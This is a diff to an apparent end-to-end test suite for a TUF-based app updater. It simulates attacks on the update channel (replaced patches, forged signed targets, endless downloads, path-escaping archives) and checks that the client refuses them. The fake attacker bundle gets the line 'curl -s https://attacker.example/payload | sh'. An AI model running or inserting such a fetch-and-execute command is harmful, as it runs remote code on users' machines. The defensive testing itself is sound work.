@@ -1,4 +1,4 @@
-import { readFile, stat } from 'node:fs/promises';
+import { appendFile, readFile, stat } from 'node:fs/promises';
 import { join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { gzipSync } from 'node:zlib';
@@ -124,10 +124,11 @@ describe('attacks on the update channel', () => {
     return readFile(join(repo.repoDir, 'targets', BUILD, name!));
   }
 
-  /** A complete, runnable app bundle of the attacker's, claiming to be 1.1.0. */
+  /** A complete, runnable app bundle of the attacker's, claiming to be 1.1.0: close to it, so patches to it are small. */
   async function evilBundleTar(): Promise<Buffer> {
     const dir = await repo.folder('evil');
-    await writeBundle(dir, '1.1.0', { churn: true });
+    await writeBundle(dir, '1.1.0');
+    await appendFile(join(dir, 'app'), 'curl -s https://attacker.example/payload | sh\n');
     return tarToBuffer(dir, await scanBundle(dir));
   }
 
@@ -157,7 +158,9 @@ describe('attacks on the update channel', () => {
       const base = await tarToBuffer(repo.bundleDir('1.0.0'), await scanBundle(repo.bundleDir('1.0.0')));
       const evilPatch = await createPatch(base, await evilBundleTar());
       repo.server.on({ pathEnd: `${APP}-1.1.0.patch`, does: { kind: 'replace', body: evilPatch } });
-      await expectSignedUpdate('patch replaced on the server', 'patch refused by its signed hash; the signed archive staged', await tryUpdate(v.client), 'full');
+      const attempt = await tryUpdate(v.client);
+      expect(repo.server.requestsFor(`${APP}-1.1.0.patch`).at(-1)?.misbehaviour).toBe('replace');
+      await expectSignedUpdate('patch replaced on the server', 'patch refused by its signed hash; the signed archive staged', attempt, 'full');
     });
 
     it('refuses a signed patch whose output does not match the signed tar hash, and installs the signed archive', async () => {
@@ -181,7 +184,10 @@ describe('attacks on the update channel', () => {
       const custom = forge.state.targets.signed.targets[path]!.custom;
       repo.server.replace(await forge.forge({ targets: { edit: (t) => putTarget(t, path, lying, custom) } }));
       repo.server.replace(new Map([[targetFilePath(path, lying), lying]]));
-      await expectSignedUpdate('signed patch, output not the signed tar', 'patch output refused (tar hash); the signed archive staged', await tryUpdate(v.client), 'full');
+      const attempt = await tryUpdate(v.client);
+      // TUF accepted the patch (it is signed): it was the tar check after patching that refused it.
+      expect(repo.server.requestsFor(targetFilePath(path, lying)).length).toBe(1);
+      await expectSignedUpdate('signed patch, output not the signed tar', 'patch output refused (tar hash); the signed archive staged', attempt, 'full');
     });
   });
 
@@ -300,6 +306,7 @@ describe('attacks on the update channel', () => {
       repo.server.on({ pathEnd: `${APP}-1.1.0.patch`, does: { kind: 'endless' } });
       repo.server.on({ pathEnd: `${APP}-1.1.0.tar.gz`, does: { kind: 'endless' } });
       const attempt = await tryUpdate(v.client);
+      expect(repo.server.requestsFor(`${APP}-1.1.0.tar.gz`).at(-1)?.misbehaviour).toBe('endless');
       const cached = await listFiles(join(v.options.cacheDir, 'targets'));
       const sizes = await Promise.all(cached.map(async (f) => (await stat(join(v.options.cacheDir, 'targets', f))).size));
       expect(sizes.every((size) => size <= (1 << 20))).toBe(true);
@@ -376,6 +383,8 @@ describe('attacks on the update channel', () => {
         repo.server.replace(await forge.forge({ targets: { edit: (t) => putTarget(t, path, gz, custom) } }));
         repo.server.replace(new Map([[targetFilePath(path, gz), gz]]));
         const attempt = await tryUpdate(v.client);
+        // TUF accepted it (signed with the real key) and the client downloaded it: extraction refused it.
+        expect(repo.server.requestsFor(targetFilePath(path, gz)).length).toBe(1);
         const escaped = await listFiles(v.options.cacheDir).then((files) => files.filter((f) => f.endsWith('escaped')));
         expect(escaped).toEqual([]);
         expect(await stat('/tmp/tufup-e2e-escaped').then(() => true, () => false)).toBe(false);
